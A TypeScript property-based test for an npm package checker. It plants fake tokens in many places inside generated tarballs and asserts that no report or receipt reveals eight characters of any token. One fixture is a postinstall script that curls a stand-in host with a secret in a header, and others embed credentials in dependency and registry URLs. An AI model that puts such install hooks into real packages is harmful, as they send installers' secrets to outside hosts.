/** No report and no receipt says eight characters of a token in a row, wherever in a package it is. */

import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { expect, test } from "vitest";
import { receiptOf } from "../../src/report/receipt.ts";
import { outputsOf } from "../hostile/every-output.ts";
import { zip } from "../support/archives.ts";
import { runs } from "../support/runs.ts";
import { tarball } from "../support/tar-writer.ts";
import { token } from "../support/tokens.ts";
import { checker } from "./checker.ts";

const TOKENS = ["github_pat", "npm", "anthropic", "stripe_live", "slack_bot", "gitlab", "google"].map(token);
type Files = Readonly<Record<string, string | Buffer>>;
const script = (secret: string) => `module.exports = "${secret}";\n`;
const map = (fields: object) => JSON.stringify({ version: 3, sources: ["a.ts"], names: [], mappings: "", ...fields });

/** Where in a package a token may be, and what of package.json it changes. */
const PLACES: readonly ((secret: string) => { readonly files?: Files; readonly manifest?: object })[] = [
  (secret) => ({ files: { "dist/a.js": script(secret) } }),
  (secret) => ({ files: { "dist/b.js": script(Buffer.from(secret).toString("base64")) } }),
  (secret) => ({ files: { "dist/c.js": Buffer.from(`\ufeff${script(secret)}`, "utf16le") } }),
  (secret) => ({ files: { "dist/d.js.gz": gzipSync(script(secret)) } }),
  (secret) => ({ files: { [`dist/${secret}.js`]: "x" } }),
  (secret) => ({ files: { [`dist/${secret}/.env`]: "A=b\n", [`dist/${secret}/a\u200b.js`]: "x" } }),
  (secret) => ({ files: { "dist/a.zip": zip({ [`${secret}/a.js`]: Buffer.from(script(secret)) }) } }),
  (secret) => ({
    files: { "dist/e.js.map": map({ sources: [`../${secret}/a.ts`], sourcesContent: ["x".repeat(600)] }) },
  }),
  (secret) => ({ files: { "dist/f.js.map": map({ sourceRoot: `https://git.test/${secret}/` }) } }),
  (secret) => ({ files: { "dist/g.js": `g();\n//# sourceMappingURL=https://maps.test/${secret}/g.js.map\n` } }),
  (secret) => ({ files: { "dist/h.js": `require("/home/runner/${secret}/h.js");\n` } }),
  (secret) => ({ files: { [`node_modules/${secret}/index.js`]: "x" } }),
  (secret) => ({ manifest: { main: `dist/${secret}.js` } }),
  (secret) => ({ manifest: { bin: { p: `dist/${secret}` }, exports: { ".": `./dist/${secret}.js` } } }),
  (secret) => ({ manifest: { scripts: { postinstall: `curl -H "x: ${secret}" https://a.test` } } }),
  (secret) => ({ manifest: { dependencies: { a: `git+https://${secret}@git.test/a.git`, [secret]: "file:../b" } } }),
  (secret) => ({ manifest: { publishConfig: { registry: `https://${secret}@registry.test/` } } }),
  (secret) => ({ manifest: { [secret]: secret } }),
];

const windowsOf = (text: string) => Array.from({ length: text.length - 7 }, (_, at) => text.slice(at, at + 8));
const SECRET_WINDOWS = TOKENS.flatMap((secret) => [secret, Buffer.from(secret).toString("base64")]).flatMap(windowsOf);

test("nothing that is written shows a token", async () => {
  const check = await checker();
  const planted = fc
    .tuple(fc.constantFrom(...PLACES), fc.constantFrom(...TOKENS))
    .map(([place, secret]) => place(secret));
  let told = 0;
  await fc.assert(
    fc.asyncProperty(fc.array(planted, { minLength: 1, maxLength: 5 }), async (parts) => {
      const manifest = Object.assign({ name: "p", version: "1.0.0" }, ...parts.map((part) => part.manifest));
      const files: Files = Object.assign(
        { "package.json": JSON.stringify(manifest) },
        ...parts.map((part) => part.files),
      );
      const report = await check(tarball(files, { level: 1 }));
      if (report.verdict !== "pass") told += 1;
      const receipt = JSON.stringify(receiptOf(report, report.reports[0]!, new Date("2026-11-21")));
      // Lines that were wrapped are joined as well.
      const texts = [...outputsOf(report), receipt ?? ""].flatMap((text) => [text, text.replace(/\s*\n\s*/g, "")]);
      const shown = SECRET_WINDOWS.filter((window) => texts.some((text) => text.includes(window)));
      expect(shown).toEqual([]);
    }),
    runs(100, 10_000),
  );
  expect(told, "packages of which something is said were among those tried").toBeGreaterThan(50);
});
